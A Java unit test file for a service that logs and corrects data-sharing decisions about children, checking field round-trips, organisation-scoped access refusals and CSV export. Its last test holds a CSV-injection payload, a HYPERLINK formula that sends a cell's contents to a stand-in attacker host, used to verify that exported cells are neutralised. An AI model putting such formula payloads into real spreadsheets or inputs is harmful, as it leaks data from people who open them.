package org.concordat.route.application;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.lang.reflect.Field;
import java.time.Clock;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.concordat.audit.application.AuditLog;
import org.concordat.legal.application.LegalCatalogue;
import org.concordat.legal.domain.Catalogue;
import org.concordat.organisation.application.OrganisationData;
import org.concordat.organisation.application.OrganisationQueries;
import org.concordat.route.domain.ConsentFrom;
import org.concordat.route.domain.DecisionDetails;
import org.concordat.route.domain.Outcome;
import org.concordat.route.domain.SharingDecision;
import org.concordat.route.domain.SharingDecisionRepository;
import org.concordat.shared.domain.Page;
import org.concordat.shared.domain.PageRequest;
import org.concordat.shared.application.AccessGuard;
import org.concordat.shared.domain.FieldError;
import org.concordat.shared.domain.AccessDeniedException;
import org.concordat.shared.domain.Caller;
import org.concordat.shared.domain.InvalidInputException;
import org.concordat.shared.domain.NotFoundException;
import org.concordat.shared.domain.Role;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Starting a correction without a container: {@link SharingDecisions#forCorrection} gives back every field of the
 * entry, to exactly those {@link SharingDecisions#correct} would let correct it, and the logs say who may.
 */
class SharingDecisionsTest {

    static final long SCHOOL = RouteChecksTest.SCHOOL;
    static final long COUNCIL = RouteChecksTest.COUNCIL;
    static final long POLICE = 3;

    final Caller teacher = caller(7, SCHOOL, Role.PRACTITIONER);
    final Caller colleague = caller(8, SCHOOL, Role.PRACTITIONER);
    final Caller schoolLead = caller(9, SCHOOL, Role.IG_LEAD);
    final Caller schoolDpo = caller(10, SCHOOL, Role.DPO);
    final Caller schoolSignatory = caller(11, SCHOOL, Role.SIGNATORY);
    final Caller councilLead = caller(20, COUNCIL, Role.IG_LEAD);
    final Caller councilWorker = caller(21, COUNCIL, Role.PRACTITIONER);

    final Map<Long, SharingDecision> stored = new HashMap<>();
    final List<String> refusals = new ArrayList<>();
    Caller current = teacher;

    final SharingDecisions decisions = new SharingDecisions();

    static Caller caller(long id, long organisation, Role... roles) {
        return new Caller(id, "user" + id + "@example.org", "User " + id, organisation, "Organisation " + organisation, Set.of(roles));
    }

    @BeforeEach
    void wire() {
        decisions.guard = new AccessGuard() {
            @Override
            public Caller signedIn() {
                return current;
            }

            @Override
            public AccessDeniedException refuse(Caller caller, String action, String reason) {
                refusals.add(caller.email() + ": " + action);
                return new AccessDeniedException(reason);
            }
        };
        decisions.repository = new SharingDecisionRepository() {
            long next = 100;

            @Override
            public SharingDecision add(SharingDecision decision) {
                try {
                    Field id = SharingDecision.class.getDeclaredField("id");
                    id.setAccessible(true);
                    id.set(decision, next++);
                } catch (ReflectiveOperationException e) {
                    throw new IllegalStateException(e);
                }
                stored.put(decision.getId(), decision);
                return decision;
            }

            @Override
            public Optional<SharingDecision> addCorrection(SharingDecision correction) {
                // As the unique index on corrects_id would: a second correction of one entry is not written.
                boolean taken = stored.values().stream().anyMatch(d -> correction.getCorrectsId().equals(d.getCorrectsId()));
                return taken ? Optional.empty() : Optional.of(add(correction));
            }

            @Override
            public Optional<SharingDecision> find(long id) {
                return Optional.ofNullable(stored.get(id));
            }

            @Override
            public Page<SharingDecision> recordedBy(long userId, PageRequest page) {
                return page(stored.values().stream().filter(d -> d.getRecordedByUserId() == userId)
                        .sorted((a, b) -> Long.compare(b.getId(), a.getId())).toList(), page);
            }

            @Override
            public Page<SharingDecision> ofOrganisation(long organisationId, SharingDecision.Kind decision, Long recipient,
                                                        LocalDate from, LocalDate to, String caseReference, PageRequest page) {
                return page(stored.values().stream().filter(d -> d.getOrganisationId() == organisationId)
                        .sorted((a, b) -> Long.compare(b.getId(), a.getId())).toList(), page);
            }

            private static Page<SharingDecision> page(List<SharingDecision> all, PageRequest page) {
                int from = (int) Math.min(page.offset(), all.size());
                return new Page<>(all.subList(from, Math.min(all.size(), from + page.size())), all.size(), page);
            }

            @Override
            public Map<Long, Long> correctedBy(List<Long> ids) {
                Map<Long, Long> by = new HashMap<>();
                stored.values().stream().filter(d -> d.getCorrectsId() != null && ids.contains(d.getCorrectsId()))
                        .forEach(d -> by.merge(d.getCorrectsId(), d.getId(), Math::min));
                return by;
            }
        };
        decisions.organisations = new OrganisationQueries() {
            @Override
            public Optional<OrganisationData> findByIdAnyState(long id) {
                return Optional.of(RouteChecksTest.organisation(id, id == COUNCIL ? "Northshire Council" : "Hillside School",
                        "A DPO", "dpo@example.org"));
            }
        };
        decisions.catalogue = new LegalCatalogue() {
            @Override
            public Catalogue current() {
                return RouteChecksTest.CATALOGUE;
            }
        };
        decisions.audit = new AuditLog() {
            @Override
            public void change(String action, String subjectType, Object subjectId, String summary, Object before, Object after) {
            }
        };
        decisions.clock = Clock.fixed(Instant.parse("2026-11-22T10:00:00Z"), ZoneOffset.UTC);
    }

    /** Not shared, no agreement, the family not told, consent sought: every optional field has something in it. */
    private static DecisionDetails notShared(String rationale) {
        return new DecisionDetails(SharingDecision.Kind.NOT_SHARED, COUNCIL, null, LocalDate.of(2026, 11, 20),
                Set.of("CHILD", "PARENT_CARER"), Set.of("EDUCATION_DATA"), "CHILD_IN_NEED", "A6-1-e", null,
                SharingDecision.NoAgreement.OTHER, Outcome.NOT_COVERED, true, false,
                "Telling the parents could put the child at risk.", true, ConsentFrom.PARENT_OR_CARER, null, rationale,
                "CS-2026-4471");
    }

    private long recordAsTeacher() {
        current = teacher;
        return decisions.record(notShared("Asked the DPO first; no agreement covers this route.")).id();
    }

    @Test
    void consentSoughtSaysWhoseAndConsentNotSoughtSaysWhyNot() {
        DecisionDetails noOne = new DecisionDetails(SharingDecision.Kind.NOT_SHARED, COUNCIL, null, LocalDate.of(2026, 11, 20),
                Set.of("CHILD"), Set.of("EDUCATION_DATA"), "CHILD_IN_NEED", "A6-1-e", null, SharingDecision.NoAgreement.OTHER,
                Outcome.NOT_COVERED, false, true, null, true, null, null, "Reasons.", "CS-2026-4471");
        assertEquals(List.of("consentFrom"), noOne.problems(LocalDate.of(2026, 11, 20)).stream().map(FieldError::field).toList());
        DecisionDetails notSought = new DecisionDetails(SharingDecision.Kind.NOT_SHARED, COUNCIL, null, LocalDate.of(2026, 11, 20),
                Set.of("CHILD"), Set.of("EDUCATION_DATA"), "CHILD_IN_NEED", "A6-1-e", null, SharingDecision.NoAgreement.OTHER,
                Outcome.NOT_COVERED, false, true, null, false, ConsentFrom.CHILD, " ", "Reasons.", "CS-2026-4471");
        assertEquals(List.of("consentNotSoughtReason"), notSought.problems(LocalDate.of(2026, 11, 20)).stream()
                .map(FieldError::field).toList(), "whose consent matters only when it was sought");
    }

    @Test
    void theRecorderGetsEveryFieldOfTheEntryBack() {
        long id = recordAsTeacher();
        SharingDecisions.DecisionData d = decisions.forCorrection(id);
        assertEquals(id, d.id());
        assertEquals(SharingDecision.Kind.NOT_SHARED, d.decision());
        assertEquals(COUNCIL, d.recipientOrganisationId());
        assertEquals(LocalDate.of(2026, 11, 20), d.decidedOn());
        assertEquals(Set.of("CHILD", "PARENT_CARER"), Set.copyOf(d.dataSubjectCodes()), "codes, not only their titles");
        assertEquals(List.of("EDUCATION_DATA"), d.dataCategoryCodes());
        assertEquals("CHILD_IN_NEED", d.purposeCode());
        assertEquals("Child in need", d.purpose());
        assertEquals("A6-1-e", d.lawfulBasisCode());
        assertNull(d.agreementVersionId());
        assertEquals(SharingDecision.NoAgreement.OTHER, d.noAgreementReason());
        assertEquals("NOT_COVERED", d.routeOutcome());
        assertTrue(d.emergency());
        assertFalse(d.familyInformed());
        assertEquals("Telling the parents could put the child at risk.", d.familyNotInformedReason());
        assertTrue(d.consentSought());
        assertEquals(ConsentFrom.PARENT_OR_CARER, d.consentFrom(), "whose consent");
        assertEquals("Asked the DPO first; no agreement covers this route.", d.rationale());
        assertEquals("CS-2026-4471", d.caseReference());
        assertTrue(d.correctable());
        assertFalse(d.corrected());
        assertTrue(refusals.isEmpty());
    }

    @Test
    void anotherOrganisationsEntryIsNotFound() {
        long id = recordAsTeacher();
        for (Caller outsider : List.of(councilLead, councilWorker)) {
            current = outsider;
            NotFoundException e = assertThrows(NotFoundException.class, () -> decisions.forCorrection(id));
            assertEquals("Sharing decision " + id + " was not found", e.getMessage());
            assertThrows(NotFoundException.class, () -> decisions.correct(id, notShared("Another organisation's.")));
        }
        current = councilLead;
        assertThrows(NotFoundException.class, () -> decisions.forCorrection(999), "an id that does not exist answers the same");
    }

    @Test
    void aColleagueWhoDidNotRecordItIsRefused() {
        long id = recordAsTeacher();
        current = colleague;
        AccessDeniedException e = assertThrows(AccessDeniedException.class, () -> decisions.forCorrection(id));
        assertTrue(e.getMessage().contains("Only whoever recorded a decision, or their organisation's IG lead or DPO"), e.getMessage());
        assertEquals(List.of("user8@example.org: correct a sharing decision"), refusals, "the refusal is recorded");
        assertThrows(AccessDeniedException.class, () -> decisions.correct(id, notShared("A colleague's.")));
        current = schoolSignatory;
        assertThrows(AccessDeniedException.class, () -> decisions.forCorrection(id), "a signatory records no decisions");
    }

    @Test
    void theOrganisationsIgLeadAndDpoMayCorrectIt() {
        long id = recordAsTeacher();
        for (Caller reader : List.of(schoolLead, schoolDpo)) {
            current = reader;
            assertEquals("CS-2026-4471", decisions.forCorrection(id).caseReference());
            assertTrue(decisions.organisationLog(null, PageRequest.first()).items().stream().filter(d -> d.id() == id).findFirst().orElseThrow().correctable());
        }
        current = schoolLead;
        SharingDecisions.DecisionData correction = decisions.correct(id, notShared("The IG lead put the reasons right."));
        assertEquals(id, correction.correctsId());
        assertEquals("The IG lead put the reasons right.", correction.rationale());
    }

    @Test
    void anEntryAlreadyCorrectedIsRefusedAndTheLogSaysByWhich() {
        long id = recordAsTeacher();
        long correction = decisions.correct(id, notShared("Reasons put right.")).id();
        for (Caller who : List.of(teacher, schoolLead)) {
            current = who;
            InvalidInputException e = assertThrows(InvalidInputException.class, () -> decisions.forCorrection(id));
            assertEquals("Entry " + id + " has already been corrected by entry " + correction
                    + ": correct the latest entry instead.", e.errors().get(0).message());
            assertThrows(InvalidInputException.class, () -> decisions.correct(id, notShared("Twice.")));
        }
        current = teacher;
        List<SharingDecisions.DecisionData> mine = decisions.mine(PageRequest.first()).items();
        assertEquals(List.of(correction, id), mine.stream().map(SharingDecisions.DecisionData::id).toList(), "newest first");
        SharingDecisions.DecisionData newer = mine.get(0);
        SharingDecisions.DecisionData older = mine.get(1);
        assertEquals(id, newer.correctsId());
        assertTrue(newer.correctable(), "the latest entry can be corrected in its turn");
        assertTrue(older.corrected());
        assertEquals(correction, older.correctedById());
        assertFalse(older.correctable(), "no link to correct an entry already corrected");
        assertEquals(id, decisions.forCorrection(correction).correctsId());

        current = colleague;
        assertEquals(0, decisions.mine(PageRequest.first()).total());
        current = schoolLead;
        assertTrue(decisions.organisationLog(null, PageRequest.first()).items().stream().filter(d -> d.id() == correction).findFirst().orElseThrow().correctable());
    }

    /**
     * CSV injection (issue 25): a practitioner's reasons written as a spreadsheet formula come out of the organisation's
     * CSV as text (a single quote in front), and every other text cell the same way; the entry numbers stay numbers.
     */
    @Test
    void theCsvExportNeverHandsASpreadsheetAFormula() throws Exception {
        current = teacher;
        String formula = "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Open the case\")";
        long id = decisions.record(new DecisionDetails(SharingDecision.Kind.NOT_SHARED, COUNCIL, null, LocalDate.of(2026, 11, 20),
                Set.of("CHILD"), Set.of("EDUCATION_DATA"), "CHILD_IN_NEED", "A6-1-e", null, SharingDecision.NoAgreement.OTHER,
                Outcome.NOT_COVERED, false, false, "+1 would put the child at risk", false, null, "@SUM(1+1) not relevant",
                formula, "CS-2026-4471")).id();
        long correction = decisions.correct(id, notShared("-2 days since the last visit; asked the DPO.")).id();

        current = schoolLead;
        String csv = decisions.csv(null);
        List<org.apache.commons.csv.CSVRecord> rows = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader()
                .setSkipHeaderRecord(true).get().parse(new java.io.StringReader(csv)).getRecords();
        assertEquals(2, rows.size(), csv);
        org.apache.commons.csv.CSVRecord newer = rows.get(0);
        org.apache.commons.csv.CSVRecord older = rows.get(1);
        assertEquals(String.valueOf(correction), newer.get("Entry"), "an entry number is written as a number");
        assertEquals(String.valueOf(id), newer.get("Corrects entry"));
        assertEquals("'-2 days since the last visit; asked the DPO.", newer.get("Reasons"));
        assertEquals("'" + formula, older.get("Reasons"), csv);
        assertEquals("'+1 would put the child at risk", older.get("Why not informed"));
        assertEquals("'@SUM(1+1) not relevant", older.get("Why consent not sought"));
        assertEquals("CS-2026-4471", older.get("Case reference"), "other text untouched");
        for (org.apache.commons.csv.CSVRecord row : rows) {
            for (String cell : row) {
                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a formula cell: " + cell);
            }
        }
    }
}
